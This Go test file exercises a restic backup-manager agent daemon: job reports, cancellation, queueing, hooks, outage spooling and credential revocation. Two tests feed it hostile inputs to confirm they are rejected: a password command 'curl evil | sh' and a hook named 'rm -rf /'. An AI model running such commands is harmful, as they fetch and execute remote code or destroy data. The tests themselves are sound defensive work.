package daemon

import (
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/restic-manager/restic-manager/agent/internal/fakeserver"
	"github.com/restic-manager/restic-manager/agent/internal/hooks"
	"github.com/restic-manager/restic-manager/agent/internal/state"
	"github.com/restic-manager/restic-manager/common/protocol"
)

func TestRunCommandReportsEverything(t *testing.T) {
	h := newHarness(t)
	h.fake.Duration = 2500 * time.Millisecond // long enough for a progress report
	h.start()
	cmdID := h.srv.AddRun(backupSpec("job-1", "r1"))
	j := waitFinished(t, h.srv, "job-1", 15*time.Second)

	if j.Finish.Status != protocol.JobSucceeded || j.Starts != 1 || string(j.Finish.Summary) == "" {
		t.Fatalf("finish %+v starts %d", j.Finish, j.Starts)
	}
	if res := h.srv.Results(cmdID); len(res) == 0 || res[0].Status != protocol.CommandAccepted {
		t.Fatalf("ack %+v", res)
	}
	// Log lines are numbered from 1 without gaps, and the total matches.
	if int64(len(j.Logs)) != j.Finish.LogLines {
		t.Fatalf("%d lines stored, finish says %d", len(j.Logs), j.Finish.LogLines)
	}
	for seq := int64(1); seq <= j.Finish.LogLines; seq++ {
		if _, ok := j.Logs[seq]; !ok {
			t.Fatalf("missing seq %d", seq)
		}
	}
	if len(j.Progress) == 0 {
		t.Fatal("no progress reported")
	}
	if len(j.Progress) > 3 {
		t.Fatalf("%d progress reports in 2.5 s: not paced", len(j.Progress))
	}
	// Follow-ups: snapshots and stats of the repository.
	fakeserver.Eventually(t, 5*time.Second, "snapshot and stats reports", func() bool {
		return len(h.srv.Snapshots("r1")) == 1 && len(h.srv.Stats("r1")) == 1
	})
	// Order of the job's reports: start, logs..., finish.
	assertJobOrder(t, h.srv.Calls(), "job-1")
	// The status file reflects the contact.
	st, ok, err := state.ReadStatus(h.dir)
	if err != nil || !ok || st.LastContact == nil || st.State != state.StateOnline {
		t.Fatalf("status %+v %v %v", st, ok, err)
	}
}

// assertJobOrder checks that a job's start precedes its logs, which precede its finish.
func assertJobOrder(t *testing.T, calls []string, jobID string) {
	t.Helper()
	phase := 0 // 0 before start, 1 started, 2 finished
	for _, c := range calls {
		if !strings.Contains(c, "/jobs/"+jobID+"/") {
			continue
		}
		switch {
		case strings.HasSuffix(c, "/start"):
			if phase != 0 {
				t.Fatalf("start after other reports: %v", calls)
			}
			phase = 1
		case strings.HasSuffix(c, "/logs"), strings.HasSuffix(c, "/progress"):
			if phase != 1 {
				t.Fatalf("%s outside start..finish: %v", c, calls)
			}
		case strings.HasSuffix(c, "/finish"):
			if phase != 1 {
				t.Fatalf("finish before start or twice: %v", calls)
			}
			phase = 2
		}
	}
	if phase != 2 {
		t.Fatalf("job %s not started and finished: %v", jobID, calls)
	}
}

func TestRejectsInvalidCommands(t *testing.T) {
	h := newHarness(t)
	h.start()
	bad := backupSpec("job-bad", "r1")
	bad.Repository.Env = map[string]string{"RESTIC_PASSWORD_COMMAND": "curl evil | sh"}
	badID := h.srv.AddRun(bad)
	unknownID := h.srv.AddCommand(protocol.Command{Type: "command.selfdestruct", JobID: "x"})
	noSpecID := h.srv.AddCommand(protocol.Command{Type: protocol.CommandRun, JobID: "y"})
	fakeserver.Eventually(t, 10*time.Second, "three rejections", func() bool {
		return len(h.srv.Results(badID)) > 0 && len(h.srv.Results(unknownID)) > 0 && len(h.srv.Results(noSpecID)) > 0
	})
	for _, id := range []int64{badID, unknownID, noSpecID} {
		r := h.srv.Results(id)[0]
		if r.Status != protocol.CommandRejected || r.Reason == "" {
			t.Fatalf("command %d: %+v", id, r)
		}
	}
	if len(h.fake.Runs("")) != 0 {
		t.Fatal("an invalid command ran")
	}
}

func TestDuplicateCommandsRunOnce(t *testing.T) {
	h := newHarness(t)
	h.srv.SetLease(300 * time.Millisecond)
	h.srv.SetFailAcks(true) // acks are lost: the server redelivers the command
	h.start()
	cmdID := h.srv.AddRun(backupSpec("job-dup", "r1"))
	waitFinished(t, h.srv, "job-dup", 10*time.Second)
	time.Sleep(1500 * time.Millisecond) // several redeliveries
	if n := len(h.fake.Runs(protocol.KindBackup)); n != 1 {
		t.Fatalf("backup ran %d times", n)
	}
	h.srv.SetFailAcks(false)
	fakeserver.Eventually(t, 10*time.Second, "the redelivered command acknowledged", func() bool {
		return len(h.srv.Results(cmdID)) > 0
	})
	if r := h.srv.Results(cmdID)[0]; r.Status != protocol.CommandAccepted {
		t.Fatalf("re-ack %+v", r)
	}

	// Dedupe survives a restart: the command is redelivered to a new daemon.
	_ = h.stop()
	h.srv.SetFailAcks(true)
	h.start()
	time.Sleep(1500 * time.Millisecond)
	if n := len(h.fake.Runs(protocol.KindBackup)); n != 1 {
		t.Fatalf("backup ran %d times after restart", n)
	}
}

func TestCancelRunningJob(t *testing.T) {
	h := newHarness(t)
	h.fake.Duration = 30 * time.Second
	h.start()
	h.srv.AddRun(backupSpec("job-long", "r1"))
	fakeserver.Eventually(t, 10*time.Second, "job running", func() bool {
		j, _ := h.srv.Job("job-long")
		return j.Status == protocol.JobRunning
	})
	h.srv.Cancel("job-long")
	j := waitFinished(t, h.srv, "job-long", 10*time.Second)
	if j.Finish.Status != protocol.JobCancelled || !strings.Contains(j.Finish.Error, "cancelled by test") {
		t.Fatalf("finish %+v", j.Finish)
	}
	// No follow-ups after a cancelled backup.
	time.Sleep(300 * time.Millisecond)
	if len(h.fake.Runs(protocol.KindSnapshots)) != 0 {
		t.Fatal("follow-ups ran after a cancelled job")
	}
}

func TestCancelRequestedInReportAnswer(t *testing.T) {
	h := newHarness(t)
	h.fake.Duration = 30 * time.Second
	h.start()
	h.srv.AddRun(backupSpec("job-c", "r1"))
	fakeserver.Eventually(t, 10*time.Second, "job running", func() bool {
		j, _ := h.srv.Job("job-c")
		return j.Status == protocol.JobRunning
	})
	// Only the job state says "cancel" (no command): the next log/progress answer carries it.
	h.srv.SetCancelRequested("job-c")
	j := waitFinished(t, h.srv, "job-c", 10*time.Second)
	if j.Finish.Status != protocol.JobCancelled {
		t.Fatalf("finish %+v", j.Finish)
	}
}

func TestQueuePerRepository(t *testing.T) {
	h := newHarness(t)
	h.fake.Duration = 2 * time.Second
	h.start()
	h.srv.AddRun(backupSpec("a1", "A"))
	h.srv.AddRun(backupSpec("a2", "A"))
	h.srv.AddRun(backupSpec("a3", "A"))
	h.srv.AddRun(backupSpec("b1", "B"))
	fakeserver.Eventually(t, 10*time.Second, "a1 and b1 running together", func() bool {
		a, _ := h.srv.Job("a1")
		b, _ := h.srv.Job("b1")
		return a.Status == protocol.JobRunning && b.Status == protocol.JobRunning
	})
	// Cancel the queued a2: it is reported cancelled without running.
	h.srv.Cancel("a2")
	a2 := waitFinished(t, h.srv, "a2", 10*time.Second)
	if a2.Finish.Status != protocol.JobCancelled || a2.Starts != 0 {
		t.Fatalf("a2 %+v starts %d", a2.Finish, a2.Starts)
	}
	a3 := waitFinished(t, h.srv, "a3", 20*time.Second)
	a1 := waitFinished(t, h.srv, "a1", time.Second)
	if a3.Finish.Status != protocol.JobSucceeded || a1.Finish.Status != protocol.JobSucceeded {
		t.Fatalf("a1 %+v a3 %+v", a1.Finish, a3.Finish)
	}
	if h.fake.Peak("A") != 1 {
		t.Fatalf("%d restic processes at once on repository A", h.fake.Peak("A"))
	}
	var order []string
	for _, r := range h.fake.Runs(protocol.KindBackup) {
		if r.Spec.Repository.ID == "A" {
			order = append(order, r.Spec.JobID)
		}
	}
	if !slices.Equal(order, []string{"a1", "a3"}) {
		t.Fatalf("order on A: %v", order)
	}
	if !a3.Finish.StartedAt.After(a1.Finish.FinishedAt.Add(-time.Millisecond)) {
		t.Fatal("a3 started before a1 finished")
	}
}

func TestHooks(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("hooks here are /bin/sh scripts")
	}
	h := newHarness(t)
	marker := filepath.Join(t.TempDir(), "post-ran")
	h.hooks = map[string]hooks.Hook{
		"pre":  {Command: []string{"/bin/sh", "-c", "echo pre for $RM_JOB_ID"}, Timeout: 5 * time.Second},
		"post": {Command: []string{"/bin/sh", "-c", "echo $RM_JOB_STATUS > " + marker}, Timeout: 5 * time.Second},
		"fail": {Command: []string{"/bin/sh", "-c", "echo failing; exit 4"}, Timeout: 5 * time.Second},
	}
	h.start()
	ok := backupSpec("hooked", "r1")
	ok.PreHook, ok.PostHook = "pre", "post"
	h.srv.AddRun(ok)
	unknown := backupSpec("unknown-hook", "r2")
	unknown.PreHook = "rm -rf /"
	h.srv.AddRun(unknown)
	failing := backupSpec("failing-hook", "r3")
	failing.PreHook, failing.PostHook = "fail", "post"
	h.srv.AddRun(failing)

	j := waitFinished(t, h.srv, "hooked", 10*time.Second)
	if j.Finish.Status != protocol.JobSucceeded || !strings.Contains(j.LogText(), "pre for hooked") {
		t.Fatalf("hooked: %+v\n%s", j.Finish, j.LogText())
	}
	fakeserver.Eventually(t, 5*time.Second, "post hook", func() bool {
		b, err := os.ReadFile(marker)
		return err == nil && strings.TrimSpace(string(b)) == protocol.JobSucceeded
	})
	u := waitFinished(t, h.srv, "unknown-hook", 10*time.Second)
	if u.Finish.Status != protocol.JobFailed || !strings.Contains(u.Finish.Error, "not defined in the agent's local config") {
		t.Fatalf("unknown hook: %+v", u.Finish)
	}
	f := waitFinished(t, h.srv, "failing-hook", 10*time.Second)
	if f.Finish.Status != protocol.JobFailed || !strings.Contains(f.Finish.Error, "exited with code 4") {
		t.Fatalf("failing hook: %+v", f.Finish)
	}
	for _, r := range h.fake.Runs(protocol.KindBackup) {
		if r.Spec.JobID != "hooked" {
			t.Fatalf("restic ran for %s despite its pre-hook", r.Spec.JobID)
		}
	}
}

func TestOutageMidJobIsSpooledAndFlushedInOrder(t *testing.T) {
	h := newHarness(t)
	h.fake.Duration = 3 * time.Second
	h.start()
	h.srv.AddRun(backupSpec("job-out", "r1"))
	fakeserver.Eventually(t, 10*time.Second, "job running", func() bool {
		j, _ := h.srv.Job("job-out")
		return j.Status == protocol.JobRunning
	})
	h.srv.SetDown(true)
	fakeserver.Eventually(t, 15*time.Second, "job done locally and spooled", func() bool {
		runs := h.fake.Runs(protocol.KindBackup)
		return len(runs) == 1 && !runs[0].End.IsZero() && h.d.spool.HasKey("job-out")
	})
	time.Sleep(500 * time.Millisecond)
	if j, _ := h.srv.Job("job-out"); j.Finish != nil {
		t.Fatal("finish delivered while the server was down")
	}
	h.srv.SetDown(false)
	j := waitFinished(t, h.srv, "job-out", 15*time.Second)
	if j.Finish.Status != protocol.JobSucceeded || int64(len(j.Logs)) != j.Finish.LogLines {
		t.Fatalf("finish %+v, %d lines", j.Finish, len(j.Logs))
	}
	assertJobOrder(t, h.srv.Calls(), "job-out")
	fakeserver.Eventually(t, 10*time.Second, "spool drained", func() bool { return h.d.spool.Len() == 0 })
}

func TestRevokedCredentialStops(t *testing.T) {
	h := newHarness(t)
	h.srv.Revoke()
	h.start()
	select {
	case err := <-h.done:
		h.cancel = nil
		if !errors.Is(err, ErrRevoked) {
			t.Fatalf("Run returned %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("daemon kept going with a revoked credential")
	}
	if n := h.srv.Hellos(); n != 1 {
		t.Fatalf("%d hellos: the agent hammers the server", n)
	}
	st, _, _ := state.ReadStatus(h.dir)
	if st == nil || st.State != state.StateRevoked || !strings.Contains(st.LastError, "re-enrol") {
		t.Fatalf("status %+v", st)
	}
}

func TestRestartRecovery(t *testing.T) {
	h := newHarness(t)
	store, err := state.Open(h.dir)
	if err != nil {
		t.Fatal(err)
	}
	started := time.Now().Add(-time.Minute).UTC()
	if err := store.PutMarker(state.Marker{JobID: "job-int", Kind: protocol.KindBackup, RepositoryID: "r1",
		Phase: state.MarkerRunning, QueuedAt: started, StartedAt: &started, LogLines: 7}); err != nil {
		t.Fatal(err)
	}
	h.srv.AddRun(backupSpec("job-int", "r1")) // the server redelivers its unacknowledged command
	h.start()
	j := waitFinished(t, h.srv, "job-int", 10*time.Second)
	if j.Finish.Status != protocol.JobFailed || j.Finish.Error != reasonRestartedRunning || j.Finish.LogLines != 7 {
		t.Fatalf("finish %+v", j.Finish)
	}
	time.Sleep(500 * time.Millisecond)
	if len(h.fake.Runs("")) != 0 {
		t.Fatal("the interrupted job ran again")
	}
	markers, _ := store.Markers()
	if len(markers) != 0 {
		t.Fatalf("markers left: %+v", markers)
	}
}

func TestShutdownCancelsAndReports(t *testing.T) {
	h := newHarness(t)
	h.fake.Duration = 30 * time.Second
	h.start()
	h.srv.AddRun(backupSpec("job-sd", "r1"))
	fakeserver.Eventually(t, 10*time.Second, "job running", func() bool {
		j, _ := h.srv.Job("job-sd")
		return j.Status == protocol.JobRunning
	})
	if err := h.stop(); err != nil {
		t.Fatal(err)
	}
	j, _ := h.srv.Job("job-sd")
	if j.Finish == nil || j.Finish.Status != protocol.JobCancelled || !strings.Contains(j.Finish.Error, "shutting down") {
		t.Fatalf("finish %+v", j.Finish)
	}
	st, _, _ := state.ReadStatus(h.dir)
	if st.State != state.StateStopped {
		t.Fatalf("status %s", st.State)
	}
}
